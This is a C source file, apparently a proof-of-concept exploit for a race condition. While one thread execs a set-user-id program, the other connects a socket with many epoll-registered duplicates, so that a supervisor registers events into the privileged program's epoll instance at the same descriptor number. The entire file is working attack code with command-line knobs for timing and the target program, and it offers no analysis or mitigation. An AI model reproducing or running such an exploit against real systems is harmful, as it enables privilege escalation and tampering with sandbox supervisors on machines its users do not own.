/* The process's first thread connects a socket that has many duplicates, all in one epoll instance at number 3; another
 * thread executes a set-user-id program meanwhile. What the supervisor then registers, it registers with that program's own
 * epoll instance, which has the same number.
 *
 * registering ADDRESS PORT MICROSECONDS DUPLICATES PROGRAM
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static volatile int begun;
static long delay;
static char **program;

static void *executes(void *unused)
{
	while (!begun)
		;
	usleep(delay);
	execv(program[0], program);
	_exit(1);
	return unused;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[2])) };
	int epoll, sock, count = atoi(argv[4]);
	pthread_t thread;

	for (int i = 3; i < 30; i++)
		close(i);
	inet_pton(AF_INET, argv[1], &to.sin_addr);
	epoll = epoll_create1(EPOLL_CLOEXEC);
	sock = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	for (int i = 0; i < count; i++) {
		struct epoll_event event = { EPOLLIN, { .u64 = 0x4141414141414141 } };
		int fd = fcntl(sock, F_DUPFD_CLOEXEC, 5);

		epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &event);
	}
	delay = atol(argv[3]);
	program = argv + 5;
	pthread_create(&thread, 0, executes, 0);
	usleep(1000);
	begun = 1;
	connect(sock, (void *)&to, sizeof(to));
	pthread_join(thread, 0);
	return 0;
}
